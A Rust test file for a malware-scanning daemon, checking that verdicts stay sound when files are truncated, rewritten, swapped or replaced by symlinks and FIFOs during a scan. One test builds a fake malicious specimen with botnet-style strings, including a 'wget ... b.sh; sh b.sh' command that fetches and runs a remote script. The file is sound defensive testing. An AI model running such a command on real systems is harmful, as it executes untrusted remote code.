//! Files that change while they are examined.

use std::collections::HashMap;
use std::fs::{self, File};
use std::ops::Range;
use std::os::unix::fs::{FileExt, symlink};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use analyzers::Verdict;
use daemon_artifact::Sha256Digest;
use daemon_engine::Limits;
use daemon_pool::{Examine, LookOptions};
use rustix::fs::{CWD, FallocateFlags, Mode, fallocate, mkfifoat};
use specimens::elf;
use tempfile::TempDir;

use crate::figure::{Random, keep};
use crate::program::{stakeout, stdout};
use crate::workers::Workers;

/// Above what is read instead of mapped.
const MAPPED: usize = 3 << 19;
/// How often a file is examined while it is swapped.
const SWAPPED: usize = 200;
/// Where a hole is punched.
const HOLE: Range<usize> = 8_192..8_192 + (1 << 19);

fn temporary() -> TempDir {
    TempDir::new().expect("a directory can be made")
}

/// A tool of about so many bytes, with nothing in it to say against it.
fn tool(bytes: usize, seed: u64) -> Vec<u8> {
    let code: Vec<u8> = elf::noise(bytes, seed).into_iter().map(|byte| byte & 0x3f).collect();
    elf::tool().load(elf::R | elf::X, &code).build()
}

fn asked() -> LookOptions {
    LookOptions { sha256: true, ..LookOptions::default() }
}

#[test]
fn a1_truncated_while_mapped() {
    let directory = temporary();
    let path = directory.path().join("unsteady");
    let image = tool(MAPPED, 3);
    let other = vec![0x90; image.len()];
    let whole = Sha256Digest::of(&image);
    // What the file may be once it changed and is whole again: as it was, with zeros behind it, and with zeros in it. All are
    // tools still; whoever sees one of them, and nothing else, may call it benign.
    let longer = [&image[..], &vec![0; image.len()]].concat();
    let mut punched = image.clone();
    punched[HOLE].fill(0);
    let honest = [&image, &longer, &punched].map(|content| Sha256Digest::of(content));
    let workers = Workers::new(Limits { wall_time_max: Duration::from_secs(60), ..Limits::default() });
    let mut walled = workers.walled();
    fs::write(&path, &image).expect("the directory is ours");
    let open = || File::options().read(true).write(true).open(&path).expect("the file is ours");
    let calm = walled.examine(open().into(), asked()).expect("a worker can be had");
    assert_eq!(
        (calm.examined.report.opinion.verdict, calm.sha256),
        (Verdict::Benign, Some(whole)),
        "while it holds still"
    );
    let before = workers.workers();
    let mut random = Random(u64::from(std::process::id()));
    let (rounds, mut noticed, mut whole_all_the_same) = (300, 0, 0);
    for _ in 0..rounds {
        fs::write(&path, &image).expect("the directory is ours");
        walled.begin(open().into(), asked());
        let (how, wait) =
            (random.below(6), Duration::from_micros(random.below(calm.examined.elapsed.as_micros() as u64 * 2)));
        std::thread::sleep(wait);
        let file = open();
        match how {
            0 => file.set_len(4096).expect("the file is ours"),
            1 => file.set_len(0).expect("the file is ours"),
            2 => file.write_all_at(&other, 0).expect("the file is ours"),
            3 => file.set_len(2 * image.len() as u64).expect("the file is ours"),
            4 => {
                let holes = FallocateFlags::PUNCH_HOLE | FallocateFlags::KEEP_SIZE;
                // Not every file system has holes; then that part is overwritten.
                if fallocate(&file, holes, HOLE.start as u64, HOLE.len() as u64).is_err() {
                    file.write_all_at(&other[HOLE], HOLE.start as u64).expect("the file is ours");
                }
            }
            _ => {
                file.set_len(100).expect("the file is ours");
                file.write_all_at(&image, 0).expect("the file is ours");
            }
        }
        let looked = walled.end().expect("one was begun").expect("a worker can be had");
        let report = &looked.examined.report;
        if report.incomplete.iter().any(|why| why.to_string().starts_with("file.")) {
            noticed += 1;
        }
        if report.opinion.verdict == Verdict::Benign {
            // The change came before or behind it: then what it saw is what was there, all of it.
            let is_whole = looked.sha256.is_some_and(|digest| honest.contains(&digest)) && report.incomplete.is_empty();
            assert!(is_whole, "benign for what was not the file ({how}): {:?}", looked.sha256);
            whole_all_the_same += 1;
        }
    }
    assert_eq!(workers.workers(), before, "a worker died of it");
    // Whoever looks would be blind to miss every one of them.
    assert!(noticed > 0, "no change was noticed in {rounds}");
    keep(&format!(
        "{rounds} files cut, grown, rewritten or punched while examined: {noticed} noticed, {whole_all_the_same} were judged \
         whole before it, 0 benign otherwise; frontend and worker unchanged"
    ));
}

#[test]
fn a2_digest_and_verdict_are_of_the_same_bytes() {
    let mut figures = Vec::new();
    for (how, bytes) in [("read", 512 << 10), ("mapped", MAPPED)] {
        let directory = temporary();
        let path = directory.path().join("two-faced");
        let good = tool(bytes, 5);
        let words = "UDPFLOOD\0HTTPHEX\0STOMP\0/bin/busybox\0/proc/net/tcp\0wget http://198.51.100.7/b.sh; sh b.sh\0";
        let bad = elf::upx_like().upx_magic().overlay(words.as_bytes()).build();
        let bad = [&bad[..], &vec![0; good.len() - bad.len()]].concat();
        let workers = Workers::new(Limits { wall_time_max: Duration::from_secs(60), ..Limits::default() });
        let mut walled = workers.walled();
        let mut offline = HashMap::new();
        for face in [&good, &bad] {
            fs::write(&path, face).expect("the directory is ours");
            let looked =
                walled.examine(File::open(&path).expect("it is there").into(), asked()).expect("a worker can be had");
            offline.insert(looked.sha256.expect("it was asked for"), looked.examined.report.opinion.verdict);
        }
        let verdicts: Vec<_> = [&good, &bad].iter().map(|face| offline[&Sha256Digest::of(face)]).collect();
        assert_eq!(verdicts, [Verdict::Benign, Verdict::Malicious], "{how}: while it holds still");
        let done = AtomicBool::new(false);
        let (mut seen, mut torn, mut changed) = (HashMap::<Verdict, usize>::new(), 0, 0);
        std::thread::scope(|scope| {
            scope.spawn(|| {
                let file = File::options().write(true).open(&path).expect("the file is ours");
                while !done.load(Ordering::Relaxed) {
                    for face in [&good, &bad] {
                        file.write_all_at(face, 0).expect("the file is ours");
                        std::thread::sleep(Duration::from_millis(1));
                    }
                }
            });
            for _ in 0..SWAPPED {
                let file = File::open(&path).expect("it is there");
                let looked = walled.examine(file.into(), asked()).expect("a worker can be had");
                let (report, digest) = (&looked.examined.report, looked.sha256.expect("it was asked for"));
                let verdict = report.opinion.verdict;
                if report.incomplete.iter().any(|why| why.to_string().starts_with("file.")) {
                    changed += 1;
                    assert_ne!(verdict, Verdict::Benign, "{how}: it changed");
                } else if let Some(expected) = offline.get(&digest) {
                    *seen.entry(verdict).or_default() += 1;
                    assert_eq!(verdict, *expected, "{how}: not the verdict of {digest}");
                } else {
                    torn += 1;
                }
            }
            done.store(true, Ordering::Relaxed);
        });
        assert!(changed + torn + seen.values().sum::<usize>() == SWAPPED);
        let [benign, malicious] = [Verdict::Benign, Verdict::Malicious].map(|verdict| seen.get(&verdict).unwrap_or(&0));
        figures.push(format!(
            "{how}: {benign} benign and {malicious} malicious, each of its own bytes, {torn} of a mixture, {changed} noticed"
        ));
    }
    keep(&format!(
        "{SWAPPED} scans each of a file that is swapped every millisecond; {}; 0 of another's bytes",
        figures.join("; ")
    ));
}

#[test]
fn e13_files_swapped_for_links_lead_nowhere() {
    let (directory, elsewhere) = (temporary(), temporary());
    let canary = elsewhere.path().join("canary");
    let secret = specimens::eicar();
    fs::write(&canary, &secret).expect("the directory is ours");
    let done = AtomicBool::new(false);
    let (mut swaps, mut read) = (0_u64, 0);
    let scans = 40;
    std::thread::scope(|scope| {
        let attacker = scope.spawn(|| {
            let (mut random, mut swaps) = (Random(u64::from(std::process::id())), 0_u64);
            let next = directory.path().join("next");
            while !done.load(Ordering::Relaxed) {
                match random.below(4) {
                    0 => fs::write(&next, b"an honest text\n").expect("the directory is ours"),
                    1 => symlink(&canary, &next).expect("a link can be made"),
                    2 => mkfifoat(CWD, &next, Mode::RUSR | Mode::WUSR).expect("a FIFO can be made"),
                    _ => symlink("/dev/zero", &next).expect("a link can be made"),
                }
                // So many that each stays for a while: else nothing would be what it was when it was listed.
                let victim = directory.path().join(format!("victim-{}", random.below(100)));
                fs::rename(&next, &victim).expect("the directory is ours");
                swaps += 1;
            }
            swaps
        });
        for _ in 0..scans {
            let output = stakeout().args(["scan", "--ndjson", "-j1", "--no-yara"]).arg(directory.path()).output();
            let output = output.expect("the program can be started");
            assert!(output.status.code().is_some(), "the program was killed");
            let text = stdout(&output);
            assert!(!text.contains(&Sha256Digest::of(&secret).to_string()) && !text.contains("eicar"), "{text}");
            read += text.matches("\"verdict\"").count();
        }
        done.store(true, Ordering::Relaxed);
        swaps = attacker.join().expect("the attacker does not panic");
    });
    assert!(read > 0, "nothing was ever read, so nothing was tried");
    keep(&format!(
        "{scans} scans while files became links, FIFOs and devices {swaps} times: {read} files read, 0 from elsewhere"
    ));
}
